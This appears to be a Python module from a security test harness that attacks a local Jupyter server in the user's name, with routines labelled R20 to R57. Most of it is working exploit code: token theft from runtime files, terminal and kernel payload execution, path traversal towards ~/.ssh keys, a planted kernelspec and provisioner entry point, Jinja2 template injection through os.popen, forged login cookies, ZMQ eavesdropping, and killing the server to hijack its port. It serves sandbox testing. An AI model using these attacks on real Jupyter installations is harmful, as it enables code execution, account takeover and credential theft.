"""The Jupyter server, asked in the person's name: with its token, its cookie key or its files."""

import contextlib
import hashlib
import hmac
import json
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from pathlib import Path


def _token(t):
    """The token as its file says it, else as the page's configuration says it (R79)."""
    with contextlib.suppress(OSError):
        for entry in Path(t["runtime"]).glob("jpserver-*.json"):
            return json.loads(entry.read_text())["token"]
    return t["token"]


def _ask(t, method, path, body=None, raw=False, **headers):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        f"http://127.0.0.1:{t['port']}{t['base']}{path}",
        data,
        {"Authorization": f"token {_token(t)}", **headers},
        method=method,
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            text = answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        words = error.read().decode(errors="replace")[:200]
        raise PermissionError(f"{method} {path.partition('?')[0]}: {error.code} {words}") from None
    return text if raw or not text else json.loads(text)


def _socket(t, path):
    import websocket

    address = f"ws://127.0.0.1:{t['port']}{t['base']}{path}"
    headers = [f"Authorization: token {_token(t)}"]
    try:
        return websocket.create_connection(address, header=headers, timeout=30)
    except websocket.WebSocketException as error:
        raise PermissionError(str(error)[:200]) from None


def _mark(t, seconds=20):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if Path(t["mark"]).exists() and (text := Path(t["mark"]).read_text()):
            return "CONTROL " + text
        time.sleep(0.1)
    raise PermissionError("the payload did not run")


def _payload_file(t):
    """Put the payload where the kernel may write; return the shell command that runs it."""
    path = Path(t["root"], "payload.py")
    path.write_text(t["payload"])
    return f"{t['python']} -I {path}"


def rest(t):
    """R21."""
    entry = Path(t["runtime"], f"jpserver-{t['server']}.json")
    token = json.loads(entry.read_text())["token"]
    return f"CONTROL {token} " + json.dumps(_ask(t, "GET", "api/kernels"))[:100]


def terminal(t):
    """R22."""
    name = _ask(t, "POST", "api/terminals", {})["name"]
    with contextlib.closing(_socket(t, f"terminals/websocket/{name}")) as shell:
        shell.send(json.dumps(["stdin", _payload_file(t) + "\r"]))
        return _mark(t)


def hidden_contents(t):
    """R23: a hidden file of the project, and files above it."""
    above = ["..%2f.ssh%2fid_canary", "%2e%2e/.ssh/id_canary", "..%5c.ssh%5cid_canary"]
    got, last = [], None
    for path in [".hidden/secret.txt", *above]:
        for route in ("api/contents/", "files/"):
            try:
                got.append(_ask(t, "GET", route + path, raw=True))
            except PermissionError as error:
                last = error
    if not got:
        raise last
    return " ".join(got)


def _execute(t, kernel_id, code, until=None):
    with contextlib.closing(_socket(t, f"api/kernels/{kernel_id}/channels")) as channel:
        header = {
            "msg_id": uuid.uuid4().hex,
            "msg_type": "execute_request",
            "session": "red",
            "username": "red",
            "version": "5.3",
            "date": "2026-01-01T00:00:00Z",
        }
        content = {"code": code, "silent": False, "store_history": False}
        message = {
            "channel": "shell",
            "header": header,
            "parent_header": {},
            "metadata": {},
            "content": content,
        }
        channel.send(json.dumps(message))
        return _mark(t)


def start_kernel(t):
    """R24: another kernel, which the attacker hopes is less confined."""
    kernel = _ask(t, "POST", "api/kernels", {"name": "python3"})["id"]
    try:
        return _execute(t, kernel, t["payload"])
    finally:
        _ask(t, "DELETE", f"api/kernels/{kernel}")


def _plant_spec(t, **more):
    folder = Path(t["data"], "kernels", "evil")
    folder.mkdir(parents=True, exist_ok=True)
    argv = ["/bin/sh", "-c", _payload_file(t), "{connection_file}"]
    spec = {"argv": argv, "display_name": "evil", "language": "python", **more}
    (folder / "kernel.json").write_text(json.dumps(spec))
    return folder


def planted_kernelspec(t):
    """R25."""
    folder = _plant_spec(t)
    try:
        with contextlib.suppress(PermissionError):  # such a kernel never answers
            _ask(t, "POST", "api/kernels", {"name": "evil"})
        return _mark(t)
    finally:
        shutil.rmtree(folder)


def unlisted_kernelspec(t):
    """R57: a specification that the administrator's list leaves out."""
    with contextlib.suppress(PermissionError):
        _ask(t, "POST", "api/kernels", {"name": "unlisted"})
    return _mark(t)


_TEMPLATE = """{{%- set code = "{code}" -%}}
{{{{ cycler.__init__.__globals__.os.popen("{command}").read() }}}}
server {{{{ cycler.__init__.__globals__.os.getpid() }}}}"""


def _template(t, folder):
    path = Path(folder, "lab", "index.html.j2")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(_TEMPLATE.format(code="", command=_payload_file(t)))
    try:
        page = _ask(t, "GET", "nbconvert/html/plain.ipynb", raw=True)
        inside = f"server {t['server']}" in page
        return f"CONTROL in the server itself: {inside}, {_mark(t, 2)}"
    finally:
        shutil.rmtree(path.parent)


def template_in_data(t):
    """R26."""
    return _template(t, Path(t["data"], "nbconvert", "templates"))


def template_in_cwd(t):
    """R27."""
    return _template(t, t["root"])


_PROVISIONER = """
import runpy
from jupyter_client.provisioning.local_provisioner import LocalProvisioner
runpy.run_path({payload!r})
class Evil(LocalProvisioner):
    pass
"""


def provisioner(t):
    """R28: an entry point in a site folder that the person may write; no restart."""
    _payload_file(t)
    info = Path(t["site"], "evil-1.dist-info")
    info.mkdir(exist_ok=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
    (info / "entry_points.txt").write_text(
        "[jupyter_client.kernel_provisioners]\nevil = evil_provisioner:Evil\n"
    )
    module = _PROVISIONER.format(payload=str(Path(t["root"], "payload.py")))
    Path(t["site"], "evil_provisioner.py").write_text(module)
    folder = _plant_spec(t, metadata={"kernel_provisioner": {"provisioner_name": "evil"}})
    Path(t["root"], "payload.py").write_text(t["payload"])
    try:
        with contextlib.suppress(PermissionError):
            _ask(t, "POST", "api/kernels", {"name": "evil"})
        text = _mark(t)
        if f"pid {t['server']} " not in text:  # the kernel's own command ran it, too late
            raise PermissionError("ran, but not in the server: " + text)
        return text
    finally:
        shutil.rmtree(folder)
        shutil.rmtree(info)
        Path(t["site"], "evil_provisioner.py").unlink()


def other_kernel(t):
    """R33."""
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient(connection_file=t["sibling_file"])
    client.load_connection_file()
    client.start_channels()
    try:
        client.execute(t["payload"], silent=True)
        return _mark(t)
    finally:
        client.stop_channels()


def _listening():
    """Yield address and port of every TCP listener of this machine."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            address, port = fields[1].split(":")
            host = socket.inet_ntoa(int(address, 16).to_bytes(4, sys.byteorder))
            yield "127.0.0.1" if host == "0.0.0.0" else host, int(port, 16)


def iopub(t):
    """R34: what other kernels print; subscribing needs no key."""
    import zmq

    context, got, deadline = zmq.Context(), [], time.monotonic() + 6
    listener = context.socket(zmq.SUB)
    listener.setsockopt(zmq.SUBSCRIBE, b"")
    listener.setsockopt(zmq.LINGER, 0)
    connected = 0
    for host, port in _listening():
        if port not in (t["port"], t["broker_port"]):
            listener.connect(f"tcp://{host}:{port}")
            connected += 1
    while time.monotonic() < deadline:
        if listener.poll(500):
            got += [part.decode(errors="replace") for part in listener.recv_multipart()]
    listener.close()
    context.term()
    return f"{connected} ports " + " ".join(got)


def forged_cookie(t):
    """R35."""
    from tornado.web import create_signed_value

    key = Path(t["runtime"], "jupyter_cookie_secret").read_bytes()
    secret = hmac.new(key, digestmod=hashlib.sha256)
    secret.update(b"")
    user = dict.fromkeys(("username", "name", "display_name", "initials"), "red")
    user |= {"color": None, "avatar_url": None}
    host = f"127.0.0.1:{t['port']}"
    name = re.sub(r"[^A-Za-z0-9]", "-", f"username-{host}")
    value = create_signed_value(secret.digest(), name, json.dumps(user)).decode()
    request = urllib.request.Request(
        f"http://{host}{t['base']}api/me", headers={"Cookie": f'{name}="{value}"'}
    )
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return "CONTROL logged in: " + answer.read().decode()[:200]
    except urllib.error.HTTPError as error:
        raise PermissionError(f"api/me: {error.code}") from None


def trusted_notebook(t):
    """R36: the harness asks the person's own notary afterwards."""
    import nbformat
    from nbformat.sign import NotebookNotary

    Path(t["data"], "notebook_secret").read_bytes()
    path = Path(t["root"], "hostile.ipynb")
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
    nbformat.write(notebook, path)
    notary = NotebookNotary(data_dir=t["data"])
    notary.sign(nbformat.read(path, 4))
    return "AFTER"


def connect(t):
    """R47."""
    with socket.create_connection(("127.0.0.1", t["port"]), timeout=5) as peer:
        peer.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return "CONTROL it answers " + peer.recv(50).decode(errors="replace")


_TAKE_OVER = """
import os, signal, socket, sys, time
pid, port, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
os.kill(pid, signal.SIGKILL)
deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    try:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", port))
        listener.listen()
        break
    except OSError:
        time.sleep(0.1)
else:
    sys.exit()
listener.settimeout(25)
peer, _ = listener.accept()
open(out, "wb").write(b"CONTROL " + peer.recv(5000))
peer.sendall(b"HTTP/1.0 204 No Content\\r\\n\\r\\n")
"""


def take_over_port(t):
    """R20: the harness's browser comes back by itself; the thief waits, apart from its kernel."""
    subprocess.Popen(
        [sys.executable, "-c", _TAKE_OVER, str(t["server"]), str(t["port"]), t["thief"]],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return "AFTER"
